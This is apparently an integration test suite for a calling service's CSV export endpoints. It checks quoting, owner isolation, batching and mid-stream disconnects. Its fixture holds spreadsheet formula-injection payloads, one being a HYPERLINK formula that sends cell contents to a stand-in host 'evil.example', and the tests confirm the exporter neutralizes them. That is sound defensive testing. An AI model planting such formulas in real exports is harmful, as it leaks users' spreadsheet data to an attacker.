/**
 * The CSV exports (`GET /api/v1/calls/export`, `GET /api/v1/campaigns/{id}/results`) against
 * the stack's API and database: hostile contact variables and SIP reasons parsed back and
 * compared with the journal API, per-contact results, other owners' rows, batches crossed
 * with equal INVITE times, and a client that leaves mid-stream. Journal rows and contacts are
 * written with SQL (test/support/journal.ts).
 */
import { randomInt, randomUUID } from 'node:crypto';
import { connect } from 'node:net';
import { Pool } from 'pg';
import { FORMULA_LEADS, parseCsv } from '../../lib/csv';
import { adminToken, call, expectProblem } from '../support/api';
import { json, userToken } from '../support/campaigns';
import { insertBareCampaign, insertCalls, insertContacts } from '../support/journal';
import { readStack } from '../support/stack';

jest.setTimeout(120_000);

interface CallView {
  id: string;
  campaignId: string | null;
  phone: string;
  attempt: number;
  outcome: string;
  sipCode: number | null;
  sipReason: string | null;
  inviteAt: string;
  answerAt: string | null;
  endAt: string;
  talkMs: number | null;
  dtmf: { digit: string }[];
  recordingUrl: string | null;
  machineDetection: { verdict: string; cause: string; decisionMs: number } | null;
  trunkAttempts: { trunkId: string; sipCode: number | null }[];
  callerIdNumber: string | null;
  variables: Record<string, string>;
}

const FIXED = [
  'call_id',
  'campaign_id',
  'phone',
  'attempt',
  'outcome',
  'sip_code',
  'sip_reason',
  'started_at',
  'answered_at',
  'ended_at',
  'talk_ms',
  'dtmf',
  'amd_verdict',
  'amd_cause',
  'amd_decision_ms',
  'trunks',
  'caller_id_number',
  'recording_url',
];
/** The journal export's columns of an external call's origin (empty for ours). */
const EXTERNAL = ['source', 'external_id', 'direction', 'from', 'to'];

let db: Pool;
let alice: { id: string; token: string };
let bob: { id: string; token: string };

beforeAll(async () => {
  db = new Pool({ connectionString: readStack().databaseUrl, max: 3 });
  [alice, bob] = await Promise.all([userToken(), userToken()]);
});

afterAll(async () => {
  await db?.end();
});

const freshPhone = () => `+4930${randomInt(20_000_000, 99_999_999)}`;

/** A cell as the spreadsheet-safe rule wrote it → the text it stands for. */
const unguard = (cell: string) =>
  cell.startsWith("'") && FORMULA_LEADS.includes(cell[1] ?? '') ? cell.slice(1) : cell;

/** The download, checked for the CSV's media type and RFC 4180 line ends, parsed into a header and records. */
async function download(
  token: string,
  path: string,
): Promise<{ header: string[]; records: string[][]; res: Response }> {
  const res = await call('GET', path, { token });
  const text = await res.text();
  if (res.status !== 200) throw new Error(`expected 200, got ${res.status}: ${text}`);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+\.csv"$/);
  expect(text.endsWith('\r\n')).toBe(true);
  // Outside quoted fields every line break is CRLF.
  expect(/(^|[^\r])\n/.test(text.replace(/"(?:[^"]|"")*"/g, ''))).toBe(false);
  const [header, ...records] = parseCsv(text);
  for (const record of records) expect(record).toHaveLength(header.length);
  return { header, records, res };
}

async function journal(token: string, query: string): Promise<CallView[]> {
  const items: CallView[] = [];
  let after: string | undefined;
  do {
    const page = await json<{ items: CallView[]; nextCursor?: string }>(
      await call('GET', `/api/v1/calls?${query}&limit=500${after ? `&after=${after}` : ''}`, { token }),
      200,
    );
    items.push(...page.items);
    after = page.nextCursor;
  } while (after);
  return items;
}

const HOSTILE = {
  '=cmd': '=HYPERLINK("https://evil.example/?"&A1,"Fix")',
  'note, "quoted"': 'a,b "q"\r\nsecond line',
  city: 'Zoë 東京 🎉',
  '@at': '-1+2',
  outcome: '+x',
  tab: '\t=1+1',
};

/** Alice's campaign: a contact with hostile variables called twice, one called once, one not yet called. */
async function seedCampaign() {
  const campaignId = await insertBareCampaign(db, alice.id);
  const phones = [freshPhone(), freshPhone(), freshPhone()];
  const [c1, c2] = await insertContacts(db, campaignId, [
    { line: 2, phone: phones[0], variables: HOSTILE, state: 'done', attempts: 2, finalOutcome: 'answered' },
    {
      line: 3,
      phone: phones[1],
      variables: { city: 'Paris', extra: '@x' },
      state: 'done',
      attempts: 1,
      finalOutcome: 'no_answer',
    },
    { line: 4, phone: phones[2], variables: { city: 'Rome' } },
  ]);
  const [busy, answered, noAnswer] = await insertCalls(db, [
    {
      ownerId: alice.id,
      campaignId,
      campaignContactId: c1,
      attempt: 1,
      phone: phones[0],
      outcome: 'busy',
      inviteAt: '2026-12-01T09:00:00.000001Z',
      sipReason: '=Busy, "here"\r\n',
    },
    {
      ownerId: alice.id,
      campaignId,
      campaignContactId: c1,
      attempt: 2,
      phone: phones[0],
      inviteAt: '2026-12-01T10:00:00Z',
      recordingKey: 'export/test.wav',
    },
    {
      ownerId: alice.id,
      campaignId,
      campaignContactId: c2,
      attempt: 1,
      phone: phones[1],
      outcome: 'no_answer',
      inviteAt: '2026-12-01T09:30:00Z',
    },
  ]);
  await db.query('UPDATE call_record SET machine_detection = $2 WHERE id = $1', [
    answered,
    JSON.stringify({ verdict: 'machine', cause: 'beep', decisionMs: 2480, treatedAs: 'machine', action: 'message' }),
  ]);
  // Failed over: the first trunk gave no answer, the second answered.
  await db.query(`UPDATE call_record SET caller_id_number = '+4930555000' WHERE id = $1`, [answered]);
  await db.query('UPDATE call_record SET trunk_attempts = $2 WHERE id = $1', [
    answered,
    JSON.stringify([
      { trunkId: randomUUID(), sipCode: null, reason: 'no response from the gateway before the ring timeout' },
      { trunkId: randomUUID(), sipCode: 200, reason: 'OK' },
    ]),
  ]);
  // Bob calls the same number, with variables of his own.
  const bobsCampaign = await insertBareCampaign(db, bob.id);
  const [bc] = await insertContacts(db, bobsCampaign, [
    { line: 2, phone: phones[0], variables: { secret: 'bob-only' } },
  ]);
  const [bobs] = await insertCalls(db, [
    { ownerId: bob.id, campaignId: bobsCampaign, campaignContactId: bc, attempt: 1, phone: phones[0] },
  ]);
  return { campaignId, phones, busy, answered, noAnswer, bobsCampaign, bobs };
}

test('the journal export holds what the journal API shows, hostile text inert and quoted', async () => {
  const seed = await seedCampaign();
  const views = await journal(alice.token, `campaignId=${seed.campaignId}`);
  expect(views.map((v) => v.id)).toEqual([seed.answered, seed.noAnswer, seed.busy]);
  expect(views[0].variables).toEqual(HOSTILE);
  expect(views[1].variables).toEqual({ city: 'Paris', extra: '@x' });
  const one = await json<CallView>(await call('GET', `/api/v1/calls/${seed.busy}`, { token: alice.token }), 200);
  expect(one.variables).toEqual(HOSTILE);

  const { header, records } = await download(alice.token, `/api/v1/calls/export?campaignId=${seed.campaignId}`);
  const names = ['=cmd', '@at', 'city', 'extra', 'note, "quoted"', 'outcome', 'tab'];
  // Names sorted by code point; formula-like ones inert, one that is a fixed column's renamed.
  expect(header).toEqual([
    ...FIXED,
    ...EXTERNAL,
    "'=cmd",
    "'@at",
    'city',
    'extra',
    'note, "quoted"',
    'contact:outcome',
    'tab',
  ]);
  expect(records.map((r) => r[0])).toEqual(views.map((v) => v.id));
  records.forEach((record, i) => {
    const v = views[i];
    expect(record.slice(0, 6)).toEqual([v.id, v.campaignId, v.phone, String(v.attempt), v.outcome, String(v.sipCode)]);
    expect(unguard(record[6])).toBe(v.sipReason);
    expect(record.slice(7, 12)).toEqual([
      v.inviteAt,
      v.answerAt ?? '',
      v.endAt,
      v.talkMs === null ? '' : String(v.talkMs),
      v.dtmf.map((d) => d.digit).join(''),
    ]);
    const amd = v.machineDetection;
    expect(record.slice(12, 15)).toEqual(amd ? [amd.verdict, amd.cause, String(amd.decisionMs)] : ['', '', '']);
    expect(record[15]).toBe(v.trunkAttempts.map((a) => `${a.trunkId}:${a.sipCode ?? '-'}`).join(';'));
    if (v.id === seed.answered) expect(record[15]).toMatch(/^[0-9a-f-]{36}:-;[0-9a-f-]{36}:200$/);
    if (v.id === seed.answered) expect(record[16]).toBe('+4930555000');
    expect(record[16]).toBe(v.callerIdNumber ?? '');
    if (v.recordingUrl === null) expect(record[17]).toBe('');
    else expect(record[17]).toMatch(new RegExp(`^https?://[^/]+${v.recordingUrl}$`));
    expect(record.slice(18 + EXTERNAL.length).map(unguard)).toEqual(names.map((n) => v.variables[n] ?? ''));
  });
  // The cells exactly: a leading ' where a spreadsheet would see a formula, nowhere else.
  const answered = records[0];
  expect(answered.slice(18 + EXTERNAL.length)).toEqual([
    `'=HYPERLINK("https://evil.example/?"&A1,"Fix")`,
    `'-1+2`,
    'Zoë 東京 🎉',
    '',
    'a,b "q"\r\nsecond line',
    `'+x`,
    `'\t=1+1`,
  ]);
  expect(records[2][6]).toBe(`'=Busy, "here"\r\n`);
  expect(records[1].slice(18 + EXTERNAL.length)).toEqual(['', '', 'Paris', "'@x", '', '', '']);
});

test('campaign results: one record per contact in file order with its final outcome, or per attempt', async () => {
  const seed = await seedCampaign();
  const { header, records } = await download(alice.token, `/api/v1/campaigns/${seed.campaignId}/results`);
  expect(header.slice(0, 20)).toEqual([...FIXED, 'contact_line', 'contact_state']);
  const pick = (r: string[]) => [r[0], r[2], r[3], r[4], r[18], r[19], unguard(r[header.indexOf('city')])];
  expect(records.map(pick)).toEqual([
    [seed.answered, seed.phones[0], '2', 'answered', '2', 'done', 'Zoë 東京 🎉'],
    [seed.noAnswer, seed.phones[1], '1', 'no_answer', '3', 'done', 'Paris'],
    ['', seed.phones[2], '0', '', '4', 'pending', 'Rome'],
  ]);
  expect(records.every((r) => r[1] === seed.campaignId)).toBe(true);

  const attempts = await download(alice.token, `/api/v1/campaigns/${seed.campaignId}/results?per=attempt`);
  expect(attempts.records.map((r) => r[0])).toEqual([seed.answered, seed.noAnswer, seed.busy]);
  expect(attempts.res.headers.get('content-disposition')).toBe(
    `attachment; filename="campaign-${seed.campaignId}-attempts.csv"`,
  );

  const admin = await download(await adminToken(), `/api/v1/campaigns/${seed.campaignId}/results`);
  expect(admin.records).toEqual(records);
  await expectProblem(
    await call('GET', `/api/v1/campaigns/${seed.campaignId}/results?per=sideways`, { token: alice.token }),
    422,
    'validation-error',
  );
});

test("another owner's rows never appear, and their campaign's results are 404", async () => {
  const seed = await seedCampaign();
  await expectProblem(
    await call('GET', `/api/v1/campaigns/${seed.campaignId}/results`, { token: bob.token }),
    404,
    'not-found',
  );
  await expectProblem(
    await call('GET', `/api/v1/campaigns/${randomUUID()}/results`, { token: alice.token }),
    404,
    'not-found',
  );
  const bobs = await download(bob.token, `/api/v1/calls/export?campaignId=${seed.campaignId}`);
  expect(bobs.records).toEqual([]);
  expect(bobs.header).toEqual([...FIXED, ...EXTERNAL]);
  const byPhone = await download(bob.token, `/api/v1/calls/export?phone=${encodeURIComponent(seed.phones[0])}`);
  expect(byPhone.records.map((r) => r[0])).toEqual([seed.bobs]);
  expect(byPhone.header).toEqual([...FIXED, ...EXTERNAL, 'secret']);

  const all = await download(alice.token, '/api/v1/calls/export');
  const ids = new Set(all.records.map((r) => r[0]));
  expect(ids.has(seed.answered)).toBe(true);
  expect(ids.has(seed.bobs)).toBe(false);
  expect(all.header).not.toContain('secret');
  expect(all.records.flat()).not.toContain('bob-only');

  const problem = await expectProblem(
    await call('GET', '/api/v1/calls/export?from=yesterday&outcome=answered', { token: alice.token }),
    422,
    'validation-error',
  );
  expect((problem.errors as { field: string }[]).map((e) => e.field)).toContain('from');
});

test('an export across many batches, with equal INVITE times, is the journal, row for row', async () => {
  const carol = await userToken();
  const times = ['2026-11-01T08:00:00Z', '2026-11-01T08:00:00.000001Z', '2026-11-02T08:00:00Z'];
  const ids = await insertCalls(
    db,
    Array.from({ length: 2345 }, (_, i) => ({
      ownerId: carol.id,
      phone: freshPhone(),
      inviteAt: times[i % times.length],
      outcome: i % 2 ? 'busy' : 'answered',
    })),
  );
  const { records } = await download(carol.token, '/api/v1/calls/export');
  expect(records).toHaveLength(ids.length);
  expect(records.map((r) => r[0])).toEqual((await journal(carol.token, '')).map((v) => v.id));
  const busy = await download(carol.token, '/api/v1/calls/export?outcome=busy&from=2026-11-01T00:00:00%2B01:00');
  expect(busy.records).toHaveLength(1172);
});

/** Export statements running now (their batches and the variable names' pass). */
async function exportQueries(): Promise<number> {
  const { rows } = await db.query<{ n: number }>(
    `SELECT count(*)::int AS n FROM pg_stat_activity
     WHERE state = 'active' AND query LIKE '%call_record%' AND pid <> pg_backend_pid()`,
  );
  return rows[0].n;
}

async function waitFor(check: () => Promise<boolean>, timeoutMs = 90_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error('timed out waiting');
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
}

test('a client that leaves mid-stream, or never reads, holds nothing: the server serves on, the next export is whole', async () => {
  const dave = await userToken();
  // More than loopback socket buffers hold (about 15 MB of CSV).
  const rows = 60_000;
  await db.query(
    `INSERT INTO call_record (id, owner_id, attempt_id, attempt, phone_e164, invite_at, end_at, outcome, end_reason,
       dtmf, recording_state, recording_private, tags, created_at)
     SELECT gen_random_uuid(), $1::uuid, 'gone-' || $1::text || '-' || g, 1, '+4930' || lpad(g::text, 8, '0'),
       now() - g * interval '1 second', now(), 'busy', 'seeded', '[]', 'none', false, '{}', now()
     FROM generate_series(1, $2::int) AS g`,
    [dave.id, rows],
  );
  for (let i = 0; i < 2; i += 1) {
    const controller = new AbortController();
    const res = await fetch(`${readStack().apiUrl}/api/v1/calls/export`, {
      headers: { authorization: `Bearer ${dave.token}` },
      signal: controller.signal,
    });
    expect(res.status).toBe(200);
    const reader = res.body!.getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    controller.abort();
    await reader.cancel().catch(() => undefined);
  }
  expect((await fetch(`${readStack().apiUrl}/healthz`)).status).toBe(200);

  // Exports on sockets that never read: once the socket buffers (some MB) are full, their
  // queries stop and they hold no database connection: the API answers as usual.
  const { hostname, port } = new URL(readStack().apiUrl);
  const sockets = Array.from({ length: 2 }, () => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined);
    socket.write(
      `GET /api/v1/calls/export HTTP/1.1\r\nHost: ${hostname}\r\nAuthorization: Bearer ${dave.token}\r\n\r\n`,
    );
    socket.pause();
    return socket;
  });
  try {
    await new Promise((resolve) => setTimeout(resolve, 1000)); // the requests are under way
    await waitFor(async () => (await exportQueries()) === 0 && (await exportQueries()) === 0);
    const started = performance.now();
    expect((await call('GET', '/api/v1/me', { token: dave.token })).status).toBe(200);
    expect(performance.now() - started).toBeLessThan(2000);
  } finally {
    for (const socket of sockets) socket.destroy();
  }
  const { records } = await download(dave.token, '/api/v1/calls/export');
  expect(records).toHaveLength(rows);
  expect(new Set(records.map((r) => r[0])).size).toBe(rows);
});
